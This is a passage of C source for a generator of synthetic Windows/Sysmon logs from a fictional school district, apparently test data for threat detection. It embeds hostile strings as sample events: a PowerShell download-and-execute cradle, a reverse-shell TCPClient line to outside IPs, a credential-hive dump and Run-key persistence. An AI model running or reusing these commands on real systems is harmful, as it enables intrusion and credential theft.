    b64_utf16("IEX (New-Object Net.WebClient).DownloadString('http://45.137.21.9/a.ps1')",
              enc_bad[0]);
    b64_utf16("$c=New-Object Net.Sockets.TCPClient('91.215.85.17',443);$s=$c.GetStream()",
              enc_bad[1]);
}

/* Hashes: fixed per image (same binary everywhere in the district). */
static char hashes[NELEM(procs) + NELEM(susps)][220];
static void build_hashes(void) {
    for (size_t i = 0; i < NELEM(hashes); i++) {
        const char *img = i < NELEM(procs) ? procs[i].image : susps[i - NELEM(procs)].image;
        uint64_t h = 1469598103934665603ULL;
        for (const char *p = img; *p; p++) h = (h ^ (unsigned char)*p) * 1099511628211ULL;
        uint64_t save = rng;
        rng = h;
        char *o = hashes[i];
        size_t k = 0;
        static const char hx[] = "0123456789ABCDEF";
        const char *parts[] = {"SHA1=", ",MD5=", ",SHA256=", ",IMPHASH="};
        int lens[] = {40, 32, 64, 32};
        for (int p = 0; p < 4; p++) {
            memcpy(o + k, parts[p], strlen(parts[p]));
            k += strlen(parts[p]);
            for (int j = 0; j < lens[p]; j++) o[k++] = hx[rnd() & 15];
        }
        o[k] = 0;
        rng = save;
    }
}

/* ---- template expansion ---- */

static const char *const docs[] = {"Lesson Plan Week 12",
                                   "Algebra I Unit 5 Review",
                                   "Field Trip Permission",
                                   "Staff Meeting Notes",
                                   "IEP Draft",
                                   "Bell Schedule 2024",
                                   "Science Fair Rubric",
                                   "Grades Q3",
                                   "Lab Inventory",
                                   "Newsletter March",
                                   "Essay Draft",
                                   "Chemistry Lab 4"};
static char tbuf[4096];
static const char *expand(const char *t, const char *uname) {
    size_t o = 0;
    for (const char *p = t; *p && o < sizeof tbuf - 600; p++) {
        if (*p != '%' || !p[1]) {
            tbuf[o++] = *p;
            continue;
        }
        char c = *++p;
        char tmp[96];
        const char *ins = tmp;
        switch (c) {
        case 'U':
            ins = uname;
            break;
        case 'N':
            snprintf(tmp, sizeof tmp, "%u", 1000 + rn(9000000));
            break;
        case 'n':
            snprintf(tmp, sizeof tmp, "%u", 1 + rn(40));
            break;
        case 'L':
            snprintf(tmp, sizeof tmp, "%u", 600 + rn(100) * 4);
            break;
        case 'D':
            ins = PICK(docs);
            break;
        case 'H':
            snprintf(tmp, sizeof tmp, "%08X", (unsigned)rnd());
            break;
        case 'G':
            snprintf(tmp, sizeof tmp, "%08x-%04x-%04x-%04x-%012llx", (unsigned)rnd(),
                     (unsigned)rn(65536), (unsigned)rn(65536), (unsigned)rn(65536),
                     (unsigned long long)(rnd() & 0xffffffffffffULL));
            break;
        case 'E':
            ins = PICK(enc_benign);
            break;
        case 'X':
            ins = PICK(enc_bad);
            break;
        case 'I':
            ins = PICK(bad_ips);
            break;
        default:
            tmp[0] = '%', tmp[1] = c, tmp[2] = 0;
        }
        size_t l = strlen(ins);
        if (o + l >= sizeof tbuf) break;
        memcpy(tbuf + o, ins, l);
        o += l;
    }
    tbuf[o] = 0;
    return tbuf;
}

/* ---- event writers ---- */

static int64_t now_us;

static void sys_header(int eid, int ver, int task, const host *h, const char *chan, int security) {
    PUTL("{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/"
         "event\"},"
         "\"System\":{\"Provider\":{\"#attributes\":{");
    if (security)
        PUTL("\"Name\":\"Microsoft-Windows-Security-Auditing\",\"Guid\":\"54849625-5478-4994-A5BA-"
             "3E3B0328C30D\"");
    else
        PUTL("\"Name\":\"Microsoft-Windows-Sysmon\",\"Guid\":\"5770385F-C22A-43E0-BF4C-"
             "06F5698FFBD9\"");
    PUTL("}},\"EventID\":");
    putu((uint64_t)eid);
    PUTL(",\"Version\":");
    putu((uint64_t)ver);
    PUTL(",\"Level\":");
    putu(security ? 0 : 4);
    PUTL(",\"Task\":");
    putu((uint64_t)task);
    PUTL(",\"Opcode\":0,\"Keywords\":\"");
    if (!security)
        PUTL("0x8000000000000000");
    else if (eid == 4625)
        PUTL("0x8010000000000000");
    else
        PUTL("0x8020000000000000");
    PUTL("\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"");
    puttime(now_us, 'T', 6);
    PUTL("Z\"}},\"EventRecordID\":");
    host *hm = (host *)h;
    putu(security ? ++hm->rec_sec : ++hm->rec_sysmon);
    if (security)
        PUTL(",\"Correlation\":{\"#attributes\":{\"ActivityID\":\"B5C6D3A2-7F10-0001-4A9E-"
             "C6B5107FDA01\"}}");
    else
        PUTL(",\"Correlation\":null");
    PUTL(",\"Execution\":{\"#attributes\":{\"ProcessID\":");
    putu(security ? h->lsass_pid : h->sysmon_pid);
    PUTL(",\"ThreadID\":");
    putu(security ? 1000 + rn(6000) : h->sysmon_pid + 4 + rn(400) * 4);
    PUTL("}},\"Channel\":\"");
    puts_(chan);
    PUTL("\",\"Computer\":\"");
    puts_(h->name);
    if (security)
        PUTL("\",\"Security\":null},\"EventData\":{");
    else
        PUTL("\",\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},\"EventData\":{");
}
static void close_event(void) {
    PUTL("}}}\n");
}

static void sysmon_common(const char *rule) {
    PUTL("\"RuleName\":\"");
    putesc(rule);
    PUTL("\",\"UtcTime\":\"");
    puttime(now_us - 1000 - rn(20000), ' ', 3);
    putc_('"');
}

/* Account a process runs as, "DOMAIN\\name", written into buf. */
static const char *account(const host *h, int who, char *buf, size_t n) {
    switch (who) {
    case U_SYSTEM:
        snprintf(buf, n, "NT AUTHORITY\\SYSTEM");
        break;
    case U_LOCALSVC:
        snprintf(buf, n, "NT AUTHORITY\\LOCAL SERVICE");
        break;
    case U_NETSVC:
        snprintf(buf, n, "NT AUTHORITY\\NETWORK SERVICE");
        break;
    default:
        snprintf(buf, n, "DISTRICT\\%s", users[chance(850000) ? h->user : (int)rn(N_USERS)].name);
    }
    return buf;
}

static const char *user_short(const char *acct) {
    const char *b = strchr(acct, '\\');
    return b ? b + 1 : acct;
}

static void ev_process_create(host *h) {
    char acct[64], img[512], cmd[4096], pimg[512], pcmd[1024];
    const char *ofn, *desc, *product, *company, *version, *hash, *integrity;
    int who;
    if (chance(2000)) { /* ~0.1% of all events (45% x 0.2%) plus the other suspicious kinds */
        const susp *s = &susps[rn(NELEM(susps))];
        who = U_USER;
        account(h, who, acct, sizeof acct);
        snprintf(img, sizeof img, "%s", s->image);
        snprintf(cmd, sizeof cmd, "%s", expand(s->cmd, user_short(acct)));
        ofn = s->ofn;
        desc = "-";
        product = MSWIN;
        company = MSCORP;
        version = "10.0.19041.3996 (WinBuild.160101.0800)";
        hash = hashes[NELEM(procs) + (size_t)(s - susps)];
        integrity = chance(500000) ? "High" : "Medium";
        snprintf(pimg, sizeof pimg, "%s", parents[s->parent].image);
        snprintf(pcmd, sizeof pcmd, "%s", parents[s->parent].cmd);
    } else {
        static int total_w;
        if (!total_w)
            for (size_t i = 0; i < NELEM(procs); i++) total_w += procs[i].weight;
        int r = (int)rn((uint32_t)total_w);
        size_t pi = 0;
        while (r >= procs[pi].weight) r -= procs[pi++].weight;
        const proc *p = &procs[pi];
        who = p->who;
        account(h, who, acct, sizeof acct);
        const char *un = user_short(acct);
        snprintf(img, sizeof img, "%s", expand(p->image, un));
        int nc = 0;
        while (nc < 5 && p->cmds[nc]) nc++;
        snprintf(cmd, sizeof cmd, "%s", expand(p->cmds[rn((uint32_t)nc)], un));
        ofn = p->ofn;
        desc = p->desc;
        product = p->product;
        company = p->company;
        version = p->version;
        hash = hashes[pi];
        integrity = who == U_USER ? (chance(30000) ? "High" : "Medium") : "System";
        int np = 0;
        while (np < 4 && p->parents[np] >= 0) np++;
        const parent *pa = &parents[p->parents[rn((uint32_t)np)]];
        snprintf(pimg, sizeof pimg, "%s", pa->image);
        snprintf(pcmd, sizeof pcmd, "%s", pa->cmd);
    }
    sys_header(1, 5, 1, h, "Microsoft-Windows-Sysmon/Operational", 0);
    sysmon_common("-");
    kguid("ProcessGuid");
    kvu("ProcessId", 1000 + rn(15000) * 4);
    kv("Image", img);
    kv("FileVersion", version);
    kv("Description", desc);
    kv("Product", product);
    kv("Company", company);
    kv("OriginalFileName", ofn);
    kv("CommandLine", cmd);
    char cwd[160];
    if (who == U_USER)
        snprintf(cwd, sizeof cwd, "C:\\Users\\%s\\", user_short(acct));
    else
        snprintf(cwd, sizeof cwd, "C:\\Windows\\system32\\");
    kv("CurrentDirectory", cwd);
    kv("User", acct);
    kguid("LogonGuid");
    PUTL(",\"LogonId\":\"0x");
    puthex(who == U_USER ? 0x100000 + rn(0xF00000) : 0x3e7, who == U_USER ? 6 : 3, 0);
    putc_('"');
    kvu("TerminalSessionId", who == U_USER ? 1 : 0);
    kv("IntegrityLevel", integrity);
    kv("Hashes", hash);
    kguid("ParentProcessGuid");
    kvu("ParentProcessId", 600 + rn(15000) * 4);
    kv("ParentImage", pimg);
    kv("ParentCommandLine", pcmd);
    kv("ParentUser", acct);
    close_event();
}

typedef struct dest {
    const char *prefix, *hostfmt;
    int port, udp;
} dest;
static const dest dests[] = {
    {"142.250.191.", "ord38s%02u-in-f%u.1e100.net", 443, 0},
    {"172.217.4.", "ord30s%02u-in-f%u.1e100.net", 443, 0},
    {"13.107.42.", "-", 443, 0},
    {"52.113.194.", "-", 443, 0},
    {"20.190.151.", "-", 443, 0},
    {"40.126.23.", "-", 443, 0},
    {"104.18.32.", "-", 443, 0},
    {"170.114.52.", "zoom%02u.zoom.us", 443, 0},
    {"23.45.112.", "a23-45-112-%u.deploy.static.akamaitechnologies.com", 80, 0},
    {"10.1.1.", "DC01.district.k12.local", 389, 0},
    {"10.1.1.", "DC02.district.k12.local", 88, 0},
    {"10.1.1.", "LHS-FS01.district.k12.local", 445, 0},
    {"10.1.1.", "DC01.district.k12.local", 53, 1},
    {"10.1.1.", "DO-SCCM01.district.k12.local", 443, 0},
};
static const int net_procs[] = {0, 0, 0, 0, 1, 1, 2, 2, 6, 18, 22, 23, 3};

static void ip4(char *b, size_t n, uint32_t ip) {
    snprintf(b, n, "%u.%u.%u.%u", ip >> 24, ip >> 16 & 255, ip >> 8 & 255, ip & 255);
}

static void ev_network(host *h) {
    char acct[64], img[512], sip[20], dip[32], dhost[128];
    const char *proto = "tcp";
    int dport;
    int bad = chance(1000);
    if (bad) {
        const susp *s = &susps[PICKV(int, 1, 5, 9)];
        account(h, U_USER, acct, sizeof acct);
        snprintf(img, sizeof img, "%s", s->image);
        snprintf(dip, sizeof dip, "%s", PICK(bad_ips));
        snprintf(dhost, sizeof dhost, "-");
        dport = PICKV(int, 4444, 8443, 443, 8080);
    } else {
        const proc *p = &procs[PICK(net_procs)];
        account(h, p->who, acct, sizeof acct);
        snprintf(img, sizeof img, "%s", expand(p->image, user_short(acct)));
        const dest *d = &dests[rn(NELEM(dests))];
        unsigned last = 1 + rn(250);
        if (!strcmp(d->prefix, "10.1.1.")) {
            const char *hn = d->hostfmt;
            last = hn[1] == 'C' ? (hn[3] == '1' ? 10 : 11) : hn[0] == 'L' ? 12 : 14;
        }
        snprintf(dip, sizeof dip, "%s%u", d->prefix, last);
        if (strchr(d->hostfmt, '%'))
            snprintf(dhost, sizeof dhost, d->hostfmt, rn(30), last);
        else
            snprintf(dhost, sizeof dhost, "%s", d->hostfmt);
        dport = d->port;
        if (d->udp) proto = "udp";
    }
    ip4(sip, sizeof sip, h->ip);
    sys_header(3, 5, 3, h, "Microsoft-Windows-Sysmon/Operational", 0);
    sysmon_common("-");
    kguid("ProcessGuid");
    kvu("ProcessId", 1000 + rn(15000) * 4);
    kv("Image", img);
    kv("User", acct);
    kv("Protocol", proto);
    PUTL(",\"Initiated\":true,\"SourceIsIpv6\":false");
    kv("SourceIp", sip);
    kv("SourceHostname", h->name);
    kvu("SourcePort", 49152 + rn(16383));
    kv("SourcePortName", "-");
    PUTL(",\"DestinationIsIpv6\":false");
    kv("DestinationIp", dip);
    kv("DestinationHostname", dhost);
    kvu("DestinationPort", (uint64_t)dport);
    kv("DestinationPortName", dport == 443   ? "https"
                              : dport == 80  ? "http"
                              : dport == 445 ? "microsoft-ds"
                              : dport == 389 ? "ldap"
                              : dport == 88  ? "kerberos"
                              : dport == 53  ? "domain"
                                             : "-");
    close_event();
}

static void ev_file(host *h) {
    char acct[64], img[512], target[1024];
    const char *rule = "-";
    int kind = (int)rn(100);
    if (chance(1000)) {
        account(h, U_USER, acct, sizeof acct);
        snprintf(img, sizeof img, "C:\\Windows\\System32\\certutil.exe");
        snprintf(
            target, sizeof target, "%s",
            PICKV(const char *, "C:\\Users\\Public\\update.exe", "C:\\Windows\\Temp\\debug.dmp",
                  "C:\\Windows\\Temp\\sam.save",
                  "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\sync.lnk"));
        rule = "EXE";
    } else {
        const proc *p;
        const char *un;
        if (kind < 35) {
            p = &procs[0];
            account(h, U_USER, acct, sizeof acct);
            un = user_short(acct);
            snprintf(target, sizeof target,
                     "C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User "
                     "Data\\Default\\Cache\\Cache_Data\\f_%06x",
                     un, rn(0xffffff));
        } else if (kind < 50) {
            p = &procs[rn(2)];
            account(h, U_USER, acct, sizeof acct);
            un = user_short(acct);
            snprintf(target, sizeof target, "C:\\Users\\%s\\Downloads\\%s%s", un, PICK(docs),
                     PICKV(const char *, ".pdf", ".docx", ".pdf", ".pptx", ".png", ".zip",
                           ".crdownload"));
        } else if (kind < 65) {
            p = &procs[3 + rn(3)];
            account(h, U_USER, acct, sizeof acct);
            un = user_short(acct);
            snprintf(target, sizeof target, "C:\\Users\\%s\\AppData\\Local\\Temp\\~$%s.tmp", un,
                     PICK(docs));
        } else if (kind < 78) {
            p = &procs[6];
            account(h, U_SYSTEM, acct, sizeof acct);
            snprintf(target, sizeof target, "C:\\Windows\\Prefetch\\%s-%08X.pf",
                     PICKV(const char *, "CHROME.EXE", "MSEDGE.EXE", "SVCHOST.EXE", "CONHOST.EXE",
                           "ONEDRIVE.EXE"),
                     (unsigned)rnd());
        } else if (kind < 88) {
            p = &procs[19];
            account(h, U_USER, acct, sizeof acct);
            un = user_short(acct);
            snprintf(target, sizeof target, "C:\\Users\\%s\\OneDrive - District\\%s.docx", un,
                     PICK(docs));
        } else {
            p = &procs[11];
            account(h, U_SYSTEM, acct, sizeof acct);
            snprintf(target, sizeof target, "C:\\Windows\\Installer\\MSI%04X.tmp", rn(65536));
        }
        snprintf(img, sizeof img, "%s", expand(p->image, user_short(acct)));
    }
    sys_header(11, 2, 11, h, "Microsoft-Windows-Sysmon/Operational", 0);
    sysmon_common(rule);
    kguid("ProcessGuid");
    kvu("ProcessId", 1000 + rn(15000) * 4);
    kv("Image", img);
    kv("TargetFilename", target);
    PUTL(",\"CreationUtcTime\":\"");
    puttime(now_us - 2000, ' ', 3);
    putc_('"');
    kv("User", acct);
    close_event();
}

static void ev_registry(host *h) {
    char acct[64], img[512], target[1024], details[512];
    const char *rule = "-";
    if (chance(1000)) {
        account(h, U_USER, acct, sizeof acct);
        snprintf(img, sizeof img, "C:\\Users\\Public\\update.exe");
        snprintf(target, sizeof target,
                 "HKU\\%s\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSyncHelper",
                 users[h->user].sid);
        snprintf(details, sizeof details, "C:\\Users\\Public\\update.exe -silent");
        rule = "technique_id=T1547.001,technique_name=Registry Run Keys / Start Folder";
    } else {
        int k = (int)rn(6);
        switch (k) {
        case 0:
            account(h, U_SYSTEM, acct, sizeof acct);
            snprintf(img, sizeof img, "C:\\Windows\\system32\\svchost.exe");
            snprintf(target, sizeof target,
                     "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Publishers\\{%"
                     "08x-%04x-%04x-%04x-%012llx}\\Enabled",
                     (unsigned)rnd(), rn(65536), rn(65536), rn(65536),
                     (unsigned long long)(rnd() & 0xffffffffffffULL));
            snprintf(details, sizeof details, "DWORD (0x00000001)");
            break;
        case 1:
            account(h, U_USER, acct, sizeof acct);
            snprintf(img, sizeof img, "C:\\Windows\\explorer.exe");
            snprintf(
                target, sizeof target,
                "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{"
                "CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\HRZR_PGYFRFFVBA",
                users[h->user].sid);
            snprintf(details, sizeof details, "Binary Data");
            break;
        case 2:
            account(h, U_USER, acct, sizeof acct);
            snprintf(img, sizeof img,
                     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
            snprintf(target, sizeof target,
                     "HKU\\%s\\Software\\Microsoft\\Office\\16.0\\Word\\Reading "
                     "Locations\\Document %u\\Position",
                     users[h->user].sid, rn(20));
            snprintf(details, sizeof details, "%u %u", rn(900), rn(90000));
            break;
        case 3:
            account(h, U_SYSTEM, acct, sizeof acct);
            snprintf(img, sizeof img, "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe");
            snprintf(target, sizeof target,
                     "HKLM\\SOFTWARE\\WOW6432Node\\Google\\Update\\ClientState\\{8A69D345-D564-"
                     "463C-AFF1-A69D9E530F96}\\LastCheckSuccess");
            snprintf(details, sizeof details, "DWORD (0x%08x)", (unsigned)(now_us / 1000000));
            break;
        case 4:
            account(h, U_SYSTEM, acct, sizeof acct);
            snprintf(img, sizeof img, "C:\\Windows\\CCM\\CcmExec.exe");
            snprintf(target, sizeof target,
                     "HKLM\\SOFTWARE\\Microsoft\\SMS\\Mobile Client\\Software "
                     "Distribution\\Execution History\\System\\%s\\LastRun",
                     PICKV(const char *, "DST00041", "DST00052", "DST00107"));
            snprintf(details, sizeof details, "QWORD (0x01da73b5-0x%08x)", (unsigned)rnd());
            break;
        default:
            account(h, U_USER, acct, sizeof acct);
            snprintf(img, sizeof img, "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe");
            snprintf(target, sizeof target,
                     "HKU\\%s\\Software\\Microsoft\\OneDrive\\Accounts\\Business1\\LastSignInTime",
                     users[h->user].sid);
            snprintf(details, sizeof details, "QWORD (0x00000000-0x%08x)",
                     (unsigned)(now_us / 1000000));
        }
    }
    sys_header(13, 2, 13, h, "Microsoft-Windows-Sysmon/Operational", 0);
    sysmon_common(rule);
    kv("EventType", "SetValue");
    kguid("ProcessGuid");
    kvu("ProcessId", 1000 + rn(15000) * 4);
    kv("Image", img);
    kv("TargetObject", target);
    kv("Details", details);
    kv("User", acct);
    close_event();
}

static const char *const domains[] = {"classroom.google.com",
                                      "docs.google.com",
                                      "www.google.com",
                                      "accounts.google.com",
                                      "drive.google.com",
                                      "login.microsoftonline.com",
                                      "teams.microsoft.com",
                                      "outlook.office365.com",
                                      "district.instructure.com",
                                      "clever.com",
                                      "kahoot.it",
                                      "quizlet.com",
                                      "www.youtube.com",
                                      "edpuzzle.com",
                                      "www.district.k12.us",
                                      "district.powerschool.com",
                                      "api.zoom.us",
                                      "oneclient.sfx.ms",
                                      "ctldl.windowsupdate.com",
                                      "settings-win.data.microsoft.com",
                                      "www.khanacademy.org",
                                      "app.seesaw.me",
                                      "wpad.district.k12.local"};

static void ev_dns(host *h) {
    char acct[64], img[512], res[128];
    const char *q;
    if (chance(2000)) {
        account(h, U_USER, acct, sizeof acct);
        snprintf(img, sizeof img, "C:\\Windows\\System32\\rundll32.exe");
        q = PICKV(const char *, "raw.githubusercontent.com", "transfer.sh", "api.telegram.org",
                  "ngrok-free.app", "pastebin.com");
    } else {
        const proc *p = &procs[PICK(net_procs)];
        account(h, p->who, acct, sizeof acct);
        snprintf(img, sizeof img, "%s", expand(p->image, user_short(acct)));
        q = PICK(domains);
    }
    snprintf(res, sizeof res, "::ffff:%u.%u.%u.%u;", 13 + rn(200), rn(256), rn(256), 1 + rn(254));
    sys_header(22, 5, 22, h, "Microsoft-Windows-Sysmon/Operational", 0);
    sysmon_common("-");
    kguid("ProcessGuid");
    kvu("ProcessId", 1000 + rn(15000) * 4);
    kv("QueryName", q);
    kv("QueryStatus", "0");
    kv("QueryResults", res);
    kv("Image", img);
    kv("User", acct);
    close_event();
}

static void ev_logon(void) {
    host *srv = &hosts[N_HOSTS + rn(3)]; /* DCs and the file server */
    host *client = &hosts[rn(N_HOSTS)];
    int fail = chance(200000);
    int u = chance(800000) ? client->user : (int)rn(N_USERS);
    int brute = fail && chance(20000);
    char ip[20];
    if (brute)
        snprintf(ip, sizeof ip, "%s", PICK(bad_ips));
    else
        ip4(ip, sizeof ip, client->ip);
    const char *tname =
        brute ? PICKV(const char *, "administrator", "admin", "backup", "scanner") : users[u].name;
    int ltype = PICKV(int, 3, 3, 3, 3, 3, 3, 2, 10, 7);
    const char *pkg =
        ltype == 3 ? PICKV(const char *, "Kerberos", "Kerberos", "NTLM") : "Negotiate";
    sys_header(fail ? 4625 : 4624, fail ? 0 : 2, 12544, srv, "Security", 1);
    putc_('"');
    PUTL("SubjectUserSid\":\"S-1-0-0\"");
    kv("SubjectUserName", "-");
    kv("SubjectDomainName", "-");
    kv("SubjectLogonId", "0x0");
    kv("TargetUserSid", fail ? "S-1-0-0" : users[u].sid);
    kv("TargetUserName", tname);
    kv("TargetDomainName", "DISTRICT");
    if (fail) {
        const char *sub = PICKV(const char *, "0xc000006a", "0xc000006a", "0xc000006a",
                                "0xc0000064", "0xc0000234", "0xc0000072");
        kv("Status", !strcmp(sub, "0xc0000234") || !strcmp(sub, "0xc0000072") ? sub : "0xc000006d");
        kv("FailureReason", "%%2313");
        kv("SubStatus", sub);
    } else {
        PUTL(",\"TargetLogonId\":\"0x");
        puthex(0x100000 + rn(0xF000000), 7, 0);
        putc_('"');
    }
    kvu("LogonType", (uint64_t)ltype);
    kv("LogonProcessName", ltype == 3 ? (pkg[0] == 'N' ? "NtLmSsp " : "Kerberos") : "User32 ");
    kv("AuthenticationPackageName", pkg);
    kv("WorkstationName", brute ? "-" : client->name);
    if (!fail) kguid("LogonGuid");
    kv("TransmittedServices", "-");
    kv("LmPackageName", pkg[0] == 'N' ? "NTLM V2" : "-");
    kvu("KeyLength", pkg[0] == 'N' ? 128 : 0);
    kv("ProcessId", ltype == 3 ? "0x0" : "0x1b4c");
    kv("ProcessName", ltype == 3 ? "-" : "C:\\Windows\\System32\\svchost.exe");
    kv("IpAddress", ip);
    kv("IpPort", ltype == 3 ? "0" : "50122");
    if (!fail) {
        kv("ImpersonationLevel", "%%1833");
        kv("RestrictedAdminMode", "-");
        kv("VirtualAccount", "%%1843");
        kv("ElevatedToken", "%%1842");
    }
    close_event();
}

/* ---- main ---- */

static void usage(void) {
    fprintf(stderr,
            "usage: hm-wingen [--events N] [--seed S] [--out FILE|-]\n"
            "  Windows/Sysmon-like JSON lines (evtx_dump shape), deterministic per seed.\n");
    exit(2);
}

int main(int argc, char **argv) {
    uint64_t n = 1000000, seed = 1;
    const char *outp = "-";
    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--events") && i + 1 < argc)
            n = strtoull(argv[++i], NULL, 10);
        else if (!strcmp(argv[i], "--seed") && i + 1 < argc)
            seed = strtoull(argv[++i], NULL, 10);
        else if (!strcmp(argv[i], "--out") && i + 1 < argc)
            outp = argv[++i];
        else
            usage();
    }
    ofp = !strcmp(outp, "-") ? stdout : fopen(outp, "wb");
    if (!ofp) {
        fprintf(stderr, "hm-wingen: %s: %s\n", outp, strerror(errno));
        return 1;
    }
    rng = seed * 0x9E3779B97F4A7C15ULL + 0x1234567ULL;
    build_district();
    build_encoded();
    build_hashes();
    now_us = 1710158400LL * 1000000; /* 2024-03-11T12:00:00Z: 07:00 in the district (CDT) */
    for (uint64_t i = 0; i < n; i++) {
        now_us += rn(72000); /* ~36 ms mean gap: 1M events span ~10 hours of a school day */
        host *h = &hosts[rn(N_HOSTS + N_SERVERS)];
        uint32_t r = rn(100);
        if (r < 45)
            ev_process_create(h);
        else if (r < 65)
            ev_network(h);
        else if (r < 80)
            ev_file(h);
        else if (r < 90)
            ev_registry(h);
        else if (r < 95)
            ev_dns(h);
        else
            ev_logon();
        if (olen > OUT_CAP - 65536) flush_out();
    }
    flush_out();
    if (ofp != stdout && fclose(ofp) != 0) {
        fprintf(stderr, "hm-wingen: %s: %s\n", outp, strerror(errno));
        return 1;
    }
    return 0;
}
